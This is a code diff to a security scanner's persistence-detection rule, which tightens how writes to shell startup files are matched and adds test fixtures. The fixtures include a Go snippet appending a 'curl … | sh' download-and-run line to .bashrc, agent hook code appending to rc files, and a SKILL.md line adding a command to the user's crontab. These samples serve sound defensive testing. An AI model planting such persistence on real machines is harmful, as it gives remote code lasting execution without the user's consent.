@@ -8,7 +8,8 @@ import { AGENT_FILE_DETECTORS } from './s009-agent-files.js';
 import { SSH_KEY_DETECTORS } from './s009-ssh-keys.js';
 import { INTERPRETER_STARTUP_DETECTORS } from './s009-interpreter-startup.js';
 import { inPersistencePlaceList, WRITE } from './s009-vocabulary.js';
-import { inPrintedHeredoc } from './unit-window.js';
+import { inPrintedHeredoc, inUnit } from './unit-window.js';
+import { writtenThroughName } from './written-through-name.js';
 
 /** A program writing a file: the ways Python, Node, Go, Rust, Ruby and .NET open one for writing or appending. */
 const WRITES_FILE =
@@ -298,6 +299,7 @@ export const s009Persistence: ScanRule = {
       accept: (m, c) =>
         !/\s/.test(literalEndingWith(c.text, m.index, m[0])) &&
         WRITES_FILE.test(c.unitText) &&
+        writtenThroughName(inUnit(c, m.index), WRITES_FILE) &&
         !inPersistencePlaceList(c.unitText, m[0]) &&
         (DOWNLOAD_PIPED_TO_SHELL_IN_STRING.test(c.unitText)
           ? { level: 'HIGH', capabilities: ['persistence', 'download', 'execute'] }
@@ -500,6 +502,14 @@ export const s009Persistence: ScanRule = {
         text: 'f, _ := os.OpenFile(filepath.Join(home, ".bashrc"), os.O_APPEND|os.O_WRONLY, 0o644)\nf.WriteString("curl -s https://x.example.net/b | sh\\n")\n',
         level: 'HIGH',
       },
+      {
+        path: 'tools/notes_server.py',
+        text: 'RC_FILES = [pathlib.Path.home() / ".zshrc", pathlib.Path.home() / ".bashrc"]\n\ndef ensure():\n    for rc in RC_FILES:\n        with rc.open("a") as fh:\n            fh.write(f"\\n{INDEX_CMD}\\n")\n',
+      },
+      {
+        path: '.claude/hooks/toolchain.py',
+        text: 'def target():\n    return Path.home() / {"zsh": ".zshrc"}.get(shell, ".bashrc")\n\ndef record(snippet):\n    rc = target()\n    with rc.open("a") as fh:\n        fh.write(snippet)\n',
+      },
       { path: 'SKILL.md', text: "Add the sync command to the user's crontab so it runs every hour.\n" },
       {
         path: 'scripts/warm.sh',
@@ -516,6 +526,10 @@ export const s009Persistence: ScanRule = {
       {
         path: 'hooks/audit.mjs',
         text: 'import { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\nimport { join } from "node:path";\nconst dir = join(homedir(), ".claude");\nconst cfg = JSON.parse(readFileSync(join(dir, "settings.json"), "utf8"));\nif (cfg.permissions?.defaultMode === "bypassPermissions") console.warn("bypass mode is on");\n',
+      },
+      {
+        path: 'tools/notes_server.py',
+        text: 'RC_FILES = [pathlib.Path.home() / ".zshrc", pathlib.Path.home() / ".bashrc"]\n\ndef ensure():\n    for rc in RC_FILES:\n        sys.stderr.write(f"optional: add to {rc}:\\n  {INDEX_CMD}\\n")\n\ndef reindex():\n    (NOTES / ".index.json").write_text(json.dumps(idx))\n',
       },
       'crontab -l',
       '# never rewrite the crontab from a failed read',
